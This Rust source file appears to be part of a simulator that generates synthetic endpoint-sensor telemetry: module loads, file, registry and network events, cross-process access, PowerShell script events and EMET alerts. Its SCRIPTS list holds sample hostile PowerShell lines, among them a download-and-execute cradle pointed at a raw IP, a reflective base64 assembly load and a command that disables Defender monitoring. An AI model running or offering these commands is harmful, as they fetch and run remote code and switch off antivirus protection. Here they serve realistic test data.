//! What a running process does: its start-up module loads, then file, registry, network and
//! cross-process activity drawn from its profile, and the rare security events.

use super::binary::{BinRef, file_size};
use super::catalog::{DOMAINS, FILES, FileUse, Img, Profile, REGS, by_profile, dll_set};
use super::clock::TICKS_PER_MS;
use super::encode::{Encoder, EvKind, ip_v4, ip_v6};
use super::host::SensorGen;
use super::process::{Peer, binary_hashes, string_guid};
use super::sim::{Act, Global, HostSim};
use super::text::{Ctx, fill, hex};
use crate::proto::CbIpAddr;
use crate::proto::cb_file_mod_msg::{CbFileModAction as FA, CbFileType};
use xxhash_rust::xxh3::xxh3_64_with_seed;

const CREATE: i32 = FA::ActionFileModCreate as i32;
const WRITE: i32 = FA::ActionFileModWrite as i32;
const DELETE: i32 = FA::ActionFileModDelete as i32;
const LAST_WRITE: i32 = FA::ActionFileModLastWrite as i32;

/// Access masks seen on handle opens (PROCESS_ALL_ACCESS, query + read, duplicate handle …).
const PROCESS_ACCESS: &[(u32, u32)] = &[
    (0x1F_FFFF, 40),
    (0x1478, 15),
    (0x40, 10),
    (0x1410, 10),
    (0x10_0040, 5),
    (0x1F_1FFF, 8),
    (0x10_1441, 3),
    (0x1000, 9),
];

const SCRIPTS: &[&str] = &[
    "Get-Service | Where-Object {$_.Status -eq 'Running'} | Export-Csv C:\\Windows\\Temp\\svc.csv",
    "$wc = New-Object System.Net.WebClient; $wc.DownloadString('http://185.220.101.47/a') | IEX",
    "Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate",
    "Get-WmiObject -Class Win32_Product | Select-Object Name, Version",
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($payload))",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
];

const EMET: &[(i32, &str)] = &[
    (8, "EAF"),
    (6, "HeapSpray"),
    (12, "MemProt"),
    (14, "StackPivot"),
    (15, "Caller"),
];

impl HostSim {
    /// One unit of activity of a process, then the next one scheduled.
    pub(crate) fn activity(&mut self, t: i64, slot: u32, epoch: u32, g: &mut Global) {
        if !self.valid(slot, epoch) || !self.procs[slot as usize].reported {
            return;
        }
        self.procs[slot as usize].last_ft = t;
        let p = &self.procs[slot as usize];
        let next = if p.dlls_left > 0 {
            self.modload(t, slot, g);
            let p = &mut self.procs[slot as usize];
            p.dlls_left -= 1;
            // The loader maps a program's DLLs within a fraction of a second.
            (p.dlls_left > 0 || p.acts_left > 0).then(|| self.rng.range(1_000, 200_000) as i64)
        } else if p.acts_left > 0 {
            self.procs[slot as usize].acts_left -= 1;
            self.unit(t, slot);
            let p = &self.procs[slot as usize];
            (p.alive && p.acts_left > 0).then(|| {
                let horizon = (p.end_ft.min(self.p.end_ft) - t).max(TICKS_PER_MS) as f64;
                let mean = horizon / f64::from(p.acts_left + 1);
                (self.rng.exp(mean) as i64).max(TICKS_PER_MS)
            })
        } else {
            None
        };
        if let Some(gap) = next {
            self.at(t + gap, Act::Activity(slot, epoch));
        }
    }

    /// The next module of the process's load order: its own image first, then its DLLs.
    fn modload(&mut self, t: i64, slot: u32, g: &mut Global) {
        let (img, pos, snapshot, x64) = {
            let p = &self.procs[slot as usize];
            (
                p.img,
                p.dll_pos,
                p.create_ft < self.host.sensor_start_ft,
                p.img.get().x64,
            )
        };
        // A 32-bit program gets syswow64 DLLs. For a few early loads the sensor keeps the id
        // of the system32 path that was asked for (the captures: 15 of 300 WOW64 loads).
        let nth = usize::from(pos)
            .checked_sub(1)
            .and_then(|i| dll_set(img.get().dlls).iter().flat_map(|l| l.iter()).nth(i));
        let (r, asked) = match (pos, nth) {
            (0, _) => (BinRef::Image(img), None),
            (_, Some(&d)) if !x64 && d.get().path.starts_with(r"c:\windows\system32\") => {
                let asked = self.rng.chance(0.05).then(|| string_guid(d.get().path));
                (BinRef::Wow64(d), asked)
            }
            (_, Some(&d)) => (BinRef::Dll(d), None),
            (_, None) => return,
        };
        self.procs[slot as usize].dll_pos += 1;
        let bin = self.bins.get(&self.host, r);
        let is_base = pos == 0;
        // Modules already loaded when the sensor started are enumerated without the loader's
        // details; loads it watched carry scan id, base and size.
        let mapped = (!snapshot).then(|| {
            self.scan_id += 1;
            let seed = xxh3_64_with_seed(&bin.md5, self.host.boot_ft as u64);
            let base = match (x64, is_base) {
                (true, true) => 0x7FF6_0000_0000 + ((seed & 0xFFFF) << 16) as i64,
                (true, false) => 0x7FF8_0000_0000 + ((seed & 0x3_FFFF) << 16) as i64,
                (false, true) => 0x0040_0000 + ((seed & 0xFF) << 16) as i64,
                (false, false) => 0x6000_0000 + ((seed & 0x1FFF) << 16) as i64,
            };
            let size = file_size(r, &bin).div_ceil(4096) * 4096;
            (self.scan_id, base, size as u32)
        });
        let is_base_field = match (mapped.is_some(), self.host.sensor) {
            (false, _) => None,
            (true, SensorGen::V52) if !is_base && self.rng.chance(0.45) => None,
            (true, _) => Some(is_base),
        };
        let guid = self.rng.next_u64() as i64;
        let m = Encoder { host: &self.host }.modload(
            &self.procs[slot as usize],
            t,
            &bin,
            guid,
            mapped,
            is_base_field,
            asked,
        );
        self.event(EvKind::Modload, t, m);
        self.procs[slot as usize].counts.modload += 1;
        self.saw_binary(t, r, g);
    }

    /// One activity unit drawn from the profile's mix.
    fn unit(&mut self, t: i64, slot: u32) {
        let (img, profile) = {
            let p = &self.procs[slot as usize];
            (p.img, p.img.get().profile)
        };
        let modern = self.host.sensor == SensorGen::Modern;
        if modern && img == Img::PowerShell && self.rng.chance(0.2) {
            return self.scriptexe(t, slot);
        }
        if self.host.emet
            && matches!(profile, Profile::Browser | Profile::Office)
            && self.rng.chance(0.003)
        {
            return self.emet(t, slot);
        }
        let kind = self
            .rng
            .weighted(profile.weights().into_iter())
            .unwrap_or(0);
        match kind {
            0 => self.filemod(t, slot, profile),
            1 => self.regmod(t, slot, profile),
            2 => self.netconn(t, slot, profile),
            3 => self.crossproc(t, slot, false),
            _ => self.crossproc(t, slot, true),
        }
    }

    fn fill_path(&mut self, tpl: &str, slot: u32) -> String {
        let exe = self.procs[slot as usize].img.get().exe;
        let ctx = Ctx {
            user: &self.host.user.folder,
            user_orig: &self.host.user.folder_orig,
            sid: &self.host.user.sid_lower,
            exe,
        };
        let mut s = String::with_capacity(tpl.len() + 24);
        fill(tpl, &ctx, &mut self.rng, &mut s);
        s.make_ascii_lowercase();
        s
    }

    fn filemod(&mut self, t: i64, slot: u32, profile: Profile) {
        let rows = &by_profile().files[profile as usize];
        let rows = if rows.is_empty() {
            &by_profile().files[Profile::Service as usize]
        } else {
            rows
        };
        let Some(i) = self.rng.weighted(rows.iter().map(|r| r.1)) else {
            return;
        };
        let tpl = &FILES[rows[i].0 as usize];
        let path = self.fill_path(tpl.path, slot);
        let legacy = self.procs[slot as usize].legacy;
        // One id per file a process touches: the captures repeat it across create/delete.
        let guid = xxh3_64_with_seed(path.as_bytes(), legacy as u64) as i64;
        let mut ts = t;
        let mut ops: Vec<(i32, Option<CbFileType>)> = Vec::with_capacity(3);
        match tpl.usage {
            FileUse::Temp => {
                ops.push((CREATE, None));
                if self.rng.chance(0.6) {
                    ops.push((WRITE, None));
                }
                ops.push((DELETE, None));
            }
            FileUse::Append => ops.push((WRITE, None)),
            FileUse::Delete => ops.push((DELETE, None)),
            FileUse::Written(CbFileType::FiletypeUnknown) => {
                ops.push((if self.rng.chance(0.4) { CREATE } else { WRITE }, None));
            }
            FileUse::Written(ty) => {
                ops.push((CREATE, None));
                ops.push((WRITE, None));
                ops.push((LAST_WRITE, Some(ty)));
            }
        }
        for (action, closed) in ops {
            let tamper = match self.host.sensor {
                SensorGen::Modern => Some(false),
                _ if self.rng.chance(0.15) => None,
                _ => Some(false),
            };
            let closed = closed.map(|ty| {
                let (md5, sha) = binary_hashes(t as u64, &path);
                (ty as i32, md5, sha)
            });
            let m = Encoder { host: &self.host }.filemod(
                &self.procs[slot as usize],
                ts,
                &path,
                guid,
                action,
                tamper,
                closed,
            );
            self.event(EvKind::Filemod, ts, m);
            self.procs[slot as usize].counts.filemod += 1;
            ts += self.rng.range(1, 400) as i64 * TICKS_PER_MS / 4;
        }
    }

    fn regmod(&mut self, t: i64, slot: u32, profile: Profile) {
        let rows = &by_profile().regs[profile as usize];
        let rows = if rows.is_empty() {
            &by_profile().regs[Profile::Service as usize]
        } else {
            rows
        };
        let Some(i) = self.rng.weighted(rows.iter().map(|r| r.1)) else {
            return;
        };
        let tpl = &REGS[rows[i].0 as usize];
        let path = self.fill_path(tpl.path, slot);
        let action = match self
            .rng
            .weighted(tpl.actions.iter().map(|&w| u32::from(w)))
            .unwrap_or(1)
        {
            0 => 1,
            1 => 2,
            2 => 4,
            _ => 8,
        };
        let guid = self.rng.next_u64() as i64;
        let m =
            Encoder { host: &self.host }.regmod(&self.procs[slot as usize], t, &path, guid, action);
        self.event(EvKind::Regmod, t, m);
        self.procs[slot as usize].counts.regmod += 1;
    }

    fn netconn(&mut self, t: i64, slot: u32, profile: Profile) {
        let rows = &by_profile().domains[profile as usize];
        let rows = if rows.is_empty() {
            &by_profile().domains[Profile::Service as usize]
        } else {
            rows
        };
        let Some(i) = self.rng.weighted(rows.iter().map(|r| r.1)) else {
            return;
        };
        let d = &DOMAINS[rows[i].0 as usize];
        let mut remote = d.ip;
        if remote[3] == 0 {
            remote[3] = self.rng.range(1, 254) as u8;
        }
        let img = self.procs[slot as usize].img;
        let serves = matches!(img, Img::Sqlservr | Img::W3wp)
            || (self.host.os.is_server() && img == Img::Lsass);
        let ephemeral = self.rng.range(49_152, 65_535) as u16;
        let (outbound, remote, rport, lport) = if serves && self.rng.chance(0.4) {
            let client = [
                10,
                self.host.ip[1],
                self.rng.below(256) as u8,
                self.rng.range(1, 254) as u8,
            ];
            let port = match img {
                Img::Sqlservr => 1433,
                Img::W3wp => 443,
                _ => 445,
            };
            (false, client, ephemeral, port)
        } else {
            (true, remote, d.port, ephemeral)
        };
        let name = if outbound { d.name } else { "" };
        let m = if self.host.sensor == SensorGen::Modern {
            let public = remote[0] != 10;
            let (r_ip, l_ip): (CbIpAddr, CbIpAddr) = if public && outbound && self.rng.chance(0.15)
            {
                (ip_v6(self.v6_remote(name)), ip_v6(self.v6_local()))
            } else {
                (ip_v4(remote), ip_v4(self.host.ip))
            };
            let ja3 = (!d.udp && rport == 443 && outbound).then(|| {
                let exe = img.get().exe;
                let client = xxh3_64_with_seed(exe.as_bytes(), 0x004A_4133) as u128
                    | (xxh3_64_with_seed(exe.as_bytes(), 0x004A_4134) as u128) << 64;
                let server = xxh3_64_with_seed(name.as_bytes(), 0x004A_4135) as u128
                    | (xxh3_64_with_seed(name.as_bytes(), 0x004A_4136) as u128) << 64;
                (
                    hex(&client.to_le_bytes(), false),
                    hex(&server.to_le_bytes(), false),
                )
            });
            Encoder { host: &self.host }.netconn_v2(
                &self.procs[slot as usize],
                t,
                name,
                (r_ip, rport),
                (l_ip, lport),
                d.udp,
                outbound,
                ja3,
            )
        } else {
            Encoder { host: &self.host }.netconn_v1(
                &self.procs[slot as usize],
                t,
                name,
                (remote, rport),
                (self.host.ip, lport),
                d.udp,
                outbound,
            )
        };
        self.event(EvKind::Netconn, t, m);
        let p = &mut self.procs[slot as usize];
        p.counts.netconn += 1;
        if outbound && remote[0] != 10 {
            p.peer = Some(Peer {
                name: d.name,
                remote,
                port: rport,
                local_port: lport,
                udp: d.udp,
            });
        }
    }

    fn v6_remote(&mut self, name: &str) -> [u8; 16] {
        let prefix: [u8; 6] =
            if name.contains("google") || name.contains("youtube") || name.contains("gstatic") {
                [0x26, 0x07, 0xf8, 0xb0, 0x40, 0x04]
            } else if name.contains("microsoft") || name.contains("office") || name.contains("live")
            {
                [0x26, 0x03, 0x10, 0x36, 0x30, 0x00]
            } else {
                [0x26, 0x06, 0x47, 0x00, 0x00, 0x00]
            };
        let mut ip = [0u8; 16];
        ip[..6].copy_from_slice(&prefix);
        ip[8..].copy_from_slice(&self.rng.next_u64().to_be_bytes());
        ip
    }

    fn v6_local(&self) -> [u8; 16] {
        let mut ip = [0u8; 16];
        ip[..8].copy_from_slice(&[0x2a, 0x02, 0x0c, 0x7f, 0x7e, 0x4c, 0x1a, 0x00]);
        let id = xxh3_64_with_seed(self.host.name.as_bytes(), 0x5641);
        ip[8..].copy_from_slice(&id.to_be_bytes());
        ip
    }

    /// Pick another reported live process as the object of a cross-process access.
    fn pick_target(&mut self, slot: u32, prefer: &[Img]) -> Option<u32> {
        for &img in prefer {
            let live = &self.by_img[img as usize];
            if !live.is_empty() && self.rng.chance(0.6) {
                let s = live[self.rng.below(live.len() as u64) as usize];
                if s != slot && self.procs[s as usize].reported {
                    return Some(s);
                }
            }
        }
        for _ in 0..6 {
            let s = self.rng.below(self.procs.len() as u64) as u32;
            let p = &self.procs[s as usize];
            if s != slot && p.alive && p.reported {
                return Some(s);
            }
        }
        None
    }

    /// A handle open or (`remote`) a thread injected into another process. 5.2+ sensors also
    /// report the other side, with `is_target` set.
    fn crossproc(&mut self, t: i64, slot: u32, remote: bool) {
        let sg = self.host.sensor;
        let remote = remote && sg != SensorGen::V51;
        let prefer: &[Img] = if remote {
            &[Img::Explorer, Img::Svchost, Img::Notepad]
        } else {
            &[Img::Lsass, Img::Csrss, Img::Explorer, Img::Chrome]
        };
        let Some(target) = self.pick_target(slot, prefer) else {
            return;
        };
        let enc = Encoder { host: &self.host };
        let (a, b) = (&self.procs[slot as usize], &self.procs[target as usize]);
        let (actor_msg, target_msg, kind) = if remote {
            (
                enc.remotethread(a, b, t, false),
                Some(enc.remotethread(b, a, t, true)),
                EvKind::Remotethread,
            )
        } else {
            let thread = self.rng.chance(0.15);
            let open_type = if thread { 2 } else { 1 };
            let access = if thread {
                if self.rng.chance(0.7) {
                    0x1F_FFFF
                } else {
                    0x10
                }
            } else {
                let i = self
                    .rng
                    .weighted(PROCESS_ACCESS.iter().map(|x| x.1))
                    .unwrap_or(0);
                PROCESS_ACCESS[i].0
            };
            let is_target = (sg != SensorGen::V51).then_some(false);
            (
                enc.crossproc_open(a, b, t, open_type, access, is_target),
                (sg != SensorGen::V51)
                    .then(|| enc.crossproc_open(b, a, t, open_type, access, Some(true))),
                EvKind::Crossproc,
            )
        };
        self.event(kind, t, actor_msg);
        self.procs[slot as usize].counts.crossproc += 1;
        if let Some(m) = target_msg {
            self.event(kind, t, m);
            self.procs[target as usize].counts.crossproc += 1;
        }
    }

    fn scriptexe(&mut self, t: i64, slot: u32) {
        let script = self.rng.pick(SCRIPTS).copied().unwrap_or("").to_string();
        let (_, sha) = binary_hashes(0x414D_5349, &script);
        let m = Encoder { host: &self.host }.scriptexe(
            &self.procs[slot as usize],
            t,
            script,
            hex(&sha, true),
        );
        self.event(EvKind::Scriptexe, t, m);
    }

    /// EMET stops an exploit attempt and closes the program.
    fn emet(&mut self, t: i64, slot: u32) {
        let (mitigation, name) = *self.rng.pick(EMET).unwrap_or(&EMET[0]);
        self.emet_id += 1 + self.rng.below(8);
        let p = &self.procs[slot as usize];
        let exe = p.img.get().exe;
        let text = format!(
            "EMET detected {name} mitigation and will close the application: {exe}\r\n\r\n{name} check failed:\n  Application \t: {}\n  User Name \t: {}\n  Session ID \t: {}\n  PID \t\t: 0x{:X} ({})\n  TID \t\t: 0x{:X} ({})\n  Module \t: N/A\n  Mem Address \t: 0x{:08X}\n",
            p.cmdline
                .trim_matches('"')
                .split("\" ")
                .next()
                .unwrap_or(exe),
            self.host.user.display,
            p.session,
            p.pid,
            p.pid,
            p.pid + 4 + 4 * self.rng.below(200) as i32,
            p.pid + 4,
            self.rng.next_u64() as u32,
        );
        let m = Encoder { host: &self.host }.emet(p, t, self.emet_id, mitigation, text);
        self.event(EvKind::Emet, t, m);
        let epoch = self.procs[slot as usize].epoch;
        self.at(t + 200 * TICKS_PER_MS, Act::End(slot, epoch));
    }
}
